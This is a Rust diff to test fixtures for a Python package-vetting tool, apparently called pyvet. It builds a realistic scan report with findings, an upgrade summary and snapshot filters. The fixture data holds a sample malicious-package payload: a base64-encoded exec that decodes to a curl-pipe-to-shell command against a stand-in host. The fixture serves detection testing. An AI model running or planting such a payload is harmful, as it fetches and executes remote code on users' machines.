@@ -7,12 +7,13 @@ use std::collections::BTreeMap;
 use std::path::Path;
 
 use pyvet::config::Config;
-use pyvet::finding::{Confidence, Finding, Severity, Verdict};
+use pyvet::finding::{Confidence, Finding, Runs, Severity, Verdict};
 use pyvet::hash::{Digest, Hashes};
 use pyvet::metadata::PackageMetadata;
 use pyvet::package::{ArtifactKind, Source};
 use pyvet::report::{
-    ArtifactReport, ArtifactStatus, PackageReport, Report, Summary, Tool, SCHEMA_VERSION,
+    ArtifactReport, ArtifactStatus, PackageReport, Report, Summary, Tool, UpgradeSummary,
+    SCHEMA_VERSION,
 };
 
 pub fn ts(s: &str) -> jiff::Timestamp {
@@ -48,8 +49,10 @@ pub fn package(name: &str, version: &str, line: u32, findings: Vec<Finding>) -> 
         source: Some(Source::Registry {
             url: Some("https://user:pw@example.invalid/simple/".into()),
         }),
+        file: Some("requirements.txt".into()),
         line: Some(line),
         change: None,
+        upgrade: None,
         artifacts: vec![artifact(
             &format!("{}-{version}-py3-none-any.whl", name.replace('-', "_")),
             ArtifactStatus::Verified,
@@ -220,6 +223,139 @@ pub fn report() -> Report {
     let mut r = raw_report();
     pyvet::policy::apply(&mut r, &fixture_config(), now());
     r
+}
+
+/// The package of `report` called `name`.
+pub fn package_mut<'a>(report: &'a mut Report, name: &str) -> &'a mut PackageReport {
+    report
+        .packages
+        .iter_mut()
+        .find(|p| p.name == name)
+        .unwrap_or_else(|| panic!("no package {name}"))
+}
+
+/// A wheel filename as long as real ones get (coverage's manylinux wheels).
+pub const LONG_WHEEL: &str = "coverage-7.6.1-cp312-cp312-manylinux_2_5_x86_64.manylinux1_x86_64.manylinux_2_17_x86_64.manylinux2014_x86_64.whl";
+
+/// The fixture grown into what a reader meets on a real lockfile in pre-merge mode: every
+/// severity (info owners included), a vulnerability with a fixed version, a suppressed
+/// finding, code findings that say what matched, what was decoded and when they run, a long
+/// wheel filename, an upgrade with its file summary, and paths that differ per run (a temporary
+/// project directory `root`, a loopback index on `port`) for the filters to hide.
+pub fn realistic_raw_report(root: &Path, port: u16) -> Report {
+    let mut r = raw_report();
+    let lock = root.join("requirements.txt").display().to_string();
+    r.inputs = vec![lock.clone()];
+    for p in &mut r.packages {
+        p.file = Some(lock.clone());
+        for a in &mut p.artifacts {
+            a.url = Some(format!("http://127.0.0.1:{port}/files/{}", a.filename));
+        }
+    }
+    for f in &mut package_mut(&mut r, "evil-pkg").findings {
+        match f.rule.as_str() {
+            "exec-decoded" => {
+                *f = f
+                    .clone()
+                    .with_match("exec")
+                    .with_decoded("import os; os.system('curl http://example.invalid/x | sh')")
+                    .runs(Runs::Import);
+                f.evidence = Some(
+                    "exec(base64.b64decode(\"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC94IHwgc2gnKQ==\"))".into(),
+                );
+            }
+            "suspicious-destination" => {
+                *f = f
+                    .clone()
+                    .with_match("socket.create_connection")
+                    .runs(Runs::Import)
+            }
+            "packer" => *f = f.clone().runs(Runs::Call),
+            _ => {}
+        }
+    }
+    r.packages[0].findings.push(
+        Finding::new(
+            "maintainers",
+            Severity::Info,
+            Confidence::High,
+            "owners: alice (Owner), bob (Maintainer)",
+        )
+        .for_package("requests", Some("2.32.3")),
+    );
+
+    let mut coverage = package(
+        "coverage",
+        "7.6.1",
+        15,
+        vec![Finding::new(
+            "pth-exec",
+            Severity::High,
+            Confidence::Medium,
+            "A .pth file imports code at every interpreter start.",
+        )
+        .for_package("coverage", Some("7.6.1"))
+        .in_artifact(LONG_WHEEL)
+        .at("a1_coverage.pth", Some(1))
+        .with_evidence("import os, sys; exec(open(os.environ['COVERAGE_PROCESS_START']).read()) if 'COVERAGE_PROCESS_START' in os.environ else None")
+        .with_match("exec")
+        .runs(Runs::Install)],
+    );
+    coverage.file = Some(lock.clone());
+    coverage.artifacts = vec![artifact(LONG_WHEEL, ArtifactStatus::Verified)];
+    coverage.artifacts[0].url = Some(format!("http://127.0.0.1:{port}/files/{LONG_WHEEL}"));
+    coverage.change = Some("upgraded from 7.5.0".into());
+    coverage.upgrade = Some(UpgradeSummary {
+        files_added: 3,
+        files_removed: 1,
+        files_modified: 12,
+        new_install_hooks: vec!["a1_coverage.pth".into()],
+        new_dependencies: vec![],
+    });
+    r.packages.push(coverage);
+
+    let mut urllib3 = package(
+        "urllib3",
+        "2.2.1",
+        17,
+        vec![Finding::new(
+            "known-vulnerability",
+            Severity::High,
+            Confidence::High,
+            "GHSA-0000-0000-0000 / CVE-2099-0001: Proxy-Authorization header kept on cross-origin redirects (fixed in 2.2.2)",
+        )
+        .for_package("urllib3", Some("2.2.1"))
+        .with_evidence("ids: GHSA-0000-0000-0000, CVE-2099-0001\naffected (GHSA-0000-0000-0000): >=0, <2.2.2\nseverity: CVSS 3.1 base score 7.5")
+        .with_action("upgrade urllib3 to 2.2.2 or later")],
+    );
+    urllib3.file = Some(lock);
+    urllib3.artifacts[0].url = Some(format!(
+        "http://127.0.0.1:{port}/files/urllib3-2.2.1-py3-none-any.whl"
+    ));
+    urllib3.change = Some("added".into());
+    r.packages.push(urllib3);
+    r.notes.push(format!(
+        "pre-merge mode: {} package(s) changed since origin/main, 12 unchanged and not vetted",
+        r.packages.len()
+    ));
+    r.summary.unchanged = 12;
+    r.generated_at = jiff::Timestamp::now();
+    r
+}
+
+/// [`realistic_raw_report`] after policy.
+pub fn realistic_report(root: &Path, port: u16) -> Report {
+    let mut r = realistic_raw_report(root, port);
+    pyvet::policy::apply(&mut r, &fixture_config(), now());
+    r
+}
+
+/// Snapshot settings for reports made under `root` and served on `port`: also hides those.
+pub fn settings_for(root: &Path, port: u16) -> insta::Settings {
+    let mut s = settings();
+    s.add_filter(&regex::escape(&root.display().to_string()), "[TEMP]");
+    s.add_filter(&format!(r"127\.0\.0\.1:{port}\b"), "127.0.0.1:[PORT]");
+    s
 }
 
 /// Snapshot settings: hide the tool version and timestamps.
